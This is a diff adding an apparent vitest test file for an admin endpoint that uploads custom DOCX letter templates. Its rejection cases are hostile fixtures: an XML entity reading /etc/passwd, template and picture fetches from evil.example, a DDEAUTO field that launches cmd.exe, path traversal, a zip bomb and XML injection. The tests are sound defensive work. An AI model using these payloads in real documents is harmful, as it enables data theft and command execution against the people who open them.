@@ -1,0 +1,196 @@
+import { sql } from "kysely";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { docxText, docxWith } from "../../../test/support/docx.ts";
+import { given } from "../../../test/support/given.ts";
+import type { Answer, Portal } from "../../../test/support/people.ts";
+import { openPortal } from "../../../test/support/portal.ts";
+import { answeredAppeal, documentOf, type AnsweredAppeal } from "../../../test/support/answered-appeal.ts";
+
+let portal: Portal;
+let to: ReturnType<typeof given>;
+let of: AnsweredAppeal;
+beforeAll(async () => {
+  portal = await openPortal();
+  to = given(portal);
+  of = await answeredAppeal(portal);
+}, 60_000);
+afterAll(() => portal.close());
+
+const send = async (login: string, query: string, content: Buffer, name = "namuna.docx"): Promise<Answer> => {
+  const form = new FormData();
+  form.append("file", new Blob([new Uint8Array(content)]), name);
+  const sent = new Response(form);
+  const reply = await portal.app.inject({
+    method: "POST",
+    url: `/api/admin/document-templates?${query}`,
+    headers: { authorization: `Bearer ${(await portal.as(login)).token}`, "content-type": sent.headers.get("content-type")! },
+    payload: Buffer.from(await sent.arrayBuffer()),
+  });
+  return { status: reply.statusCode, body: reply.json() };
+};
+
+describe("a template of the office's own", () => {
+  const query = "name=answer-letter&language=UZ";
+  const letter = () => `/tasks/generate-doc?taskId=${of.own}&type=answer-letter`;
+  const builtIn = () => documentOf(portal, "admin", `/admin/document-templates/file?${query}`);
+  const saying = async (words: string): Promise<Buffer> =>
+    docxWith(await builtIn(), {
+      "word/document.xml": (xml) => xml.replace("{answerText}", words.replaceAll("&", "&amp;").replaceAll("<", "&lt;")),
+    });
+  const listed = async () =>
+    to
+      .ok(await (await portal.as("admin")).get("/admin/document-templates"))
+      .find((t: { name: string; language: string }) => t.name === "answer-letter" && t.language === "UZ");
+
+  it("takes the place of the built-in one in its language, until it is taken back", async () => {
+    const admin = await portal.as("admin");
+    const before = docxText(await documentOf(portal, "signer", letter()));
+
+    const kept = await send("admin", query, await saying("Oʻz shaklimiz: {answerText} ({executor})"), "Bizning namuna.docx");
+
+    expect(kept).toEqual({ status: 200, body: { fileName: "Bizning namuna.docx" } });
+    expect(docxText(await documentOf(portal, "signer", letter()))).toContain("Oʻz shaklimiz: Сув берилди\nва кафолатланди (");
+    expect(docxText(await documentOf(portal, "signer", letter(), "RU"))).not.toContain("shaklimiz");
+    expect(await listed()).toMatchObject({ isReplaced: true, fileName: "Bizning namuna.docx", title: "Javob xati" });
+    expect(docxText(await documentOf(portal, "admin", `/admin/document-templates/file?${query}`))).toContain("Oʻz shaklimiz: {answerText}");
+
+    to.ok(await admin.delete(`/admin/document-templates?${query}`));
+    expect(docxText(await documentOf(portal, "signer", letter()))).toBe(before);
+    expect(await listed()).toMatchObject({ isReplaced: false, fileName: null });
+    const { rows } = await sql<{
+      action: string;
+    }>`select action from audit_log where target = 'document_templates:answer-letter/UZ' order by id`.execute(portal.db);
+    expect(rows.map((row) => row.action)).toEqual(["POST /admin/document-templates", "DELETE /admin/document-templates"]);
+  });
+
+  it("tells which placeholders there are", async () => {
+    const all = to.ok(await (await portal.as("admin")).get("/admin/document-templates")) as { name: string; placeholders: string[] }[];
+
+    expect(all).toHaveLength(21);
+    expect(all.find((t) => t.name === "task-card")!.placeholders).toEqual(
+      expect.arrayContaining(["requestNumber", "taskText", "answers.answerText", "files.fileName", "withFiles"]),
+    );
+  });
+
+  it("that names what there is not is refused with every such name, in words", async () => {
+    const reply = await send(
+      "admin",
+      query,
+      await saying("{answerText} {password} {#tasks}{token}{/tasks} {answerText.length} {constructor} {1+1} {@answerText}"),
+    );
+
+    expect(reply.status).toBe(422);
+    expect(reply.body.details.map((d: { path: string }) => d.path).toSorted()).toEqual([
+      "1+1",
+      "@answerText",
+      "answerText.length",
+      "constructor",
+      "password",
+      "tasks",
+      "tasks.token",
+    ]);
+    expect(reply.body.details[0]).toMatchObject({ problem: "unknown_placeholder", message: "Andozada bunday belgi yoʻq" });
+    expect(await listed()).toMatchObject({ isReplaced: false });
+  });
+
+  it("fills values as text only: no XML, no mark of theirs is read", async () => {
+    const dangerous = 'x</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED</w:t></w:r></w:p>{password}{#a}&"';
+    await sql`update answers set text = ${dangerous} where task_id = ${of.own}`.execute(portal.db);
+
+    const file = await documentOf(portal, "signer", letter());
+
+    await sql`update answers set text = ${"Сув берилди\nва кафолатланди"} where task_id = ${of.own}`.execute(portal.db);
+    expect(docxText(file)).toContain(dangerous);
+  });
+
+  it.each<[string, () => Promise<Buffer>, string]>([
+    ["no archive", async () => Buffer.from("not a document"), "broken_template"],
+    ["an archive of something else", async () => docxWith(await builtIn(), { "word/document.xml": undefined }), "broken_template"],
+    ["an open part", () => saying("{#answerText} {answerText}"), "broken_template"],
+    ["a half mark", () => saying("{answerText"), "broken_template"],
+    ["a page that calls itself a text", async () => docxWith(await builtIn(), { "word/document.xml": "<html>" }), "broken_template"],
+    ["an empty text", async () => docxWith(await builtIn(), { "word/document.xml": "" }), "broken_template"],
+    [
+      "a text that stops in its midst",
+      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.slice(0, xml.lastIndexOf("</w:p>")) }),
+      "broken_template",
+    ],
+    [
+      "parts that end one another",
+      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace("</w:r></w:p>", "</w:p></w:r>") }),
+      "broken_template",
+    ],
+    ["styles that are no XML", async () => docxWith(await builtIn(), { "word/styles.xml": "<w:styles a=>b</w:styles" }), "broken_template"],
+    ["no way to its text", async () => docxWith(await builtIn(), { "_rels/.rels": undefined }), "broken_template"],
+    [
+      "a text without a mark",
+      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace(/\{[^}]*\}/g, "Salom") }),
+      "no_placeholder",
+    ],
+    ["a path outside", async () => docxWith(await builtIn(), { "../../evil.xml": "<a/>" }), "broken_template"],
+    ["a bomb", async () => docxWith(await builtIn(), { "word/media/a.xml": Buffer.alloc(40_000_000) }), "broken_template"],
+    ["a macro", async () => docxWith(await builtIn(), { "word/vbaProject.bin": "x" }), "active_content"],
+    ["an embedded object", async () => docxWith(await builtIn(), { "word/embeddings/a.xlsx": "x" }), "active_content"],
+    [
+      "an entity",
+      async () =>
+        docxWith(await builtIn(), {
+          "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+        }),
+      "active_content",
+    ],
+    [
+      "a template fetched from elsewhere",
+      async () =>
+        docxWith(await builtIn(), {
+          "word/_rels/settings.xml.rels":
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        }),
+      "active_content",
+    ],
+    [
+      "a field that runs a program, in pieces",
+      async () =>
+        docxWith(await builtIn(), {
+          "word/document.xml": (xml) =>
+            xml.replace(
+              "<w:body>",
+              '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+            ),
+        }),
+      "active_content",
+    ],
+    [
+      "a picture fetched from elsewhere",
+      async () =>
+        docxWith(await builtIn(), {
+          "word/document.xml": (xml) =>
+            xml.replace("<w:body>", '<w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/></w:p>'),
+        }),
+      "active_content",
+    ],
+  ])("that is or holds %s is refused", async (_what, make, why) => {
+    const reply = await send("admin", query, await make());
+
+    expect([reply.status, reply.body.details]).toMatchObject([422, [{ path: "file", problem: why }]]);
+    expect(await listed()).toMatchObject({ isReplaced: false });
+  });
+
+  it("is looked at and replaced by its administrator only", async () => {
+    for (const login of ["leader", "registrator", "supervisor"]) {
+      const person = await portal.as(login);
+      expect((await person.get("/admin/document-templates")).status, login).toBe(403);
+      expect((await person.get(`/admin/document-templates/file?${query}`)).status, login).toBe(403);
+      expect((await person.delete(`/admin/document-templates?${query}`)).status, login).toBe(403);
+      expect((await send(login, query, Buffer.from("x"))).status, login).toBe(403);
+    }
+  });
+
+  it.each(["name=answer-letter", "name=../x&language=UZ", "name=answer-letter&language=EN", "name=answer-letter&language=UZ&x=1"])(
+    "%s names none",
+    async (wrong) => {
+      expect((await send("admin", wrong, await builtIn())).status).toBe(400);
+      expect((await (await portal.as("admin")).delete(`/admin/document-templates?${wrong}`)).status).toBe(400);
+    },
+  );
+});
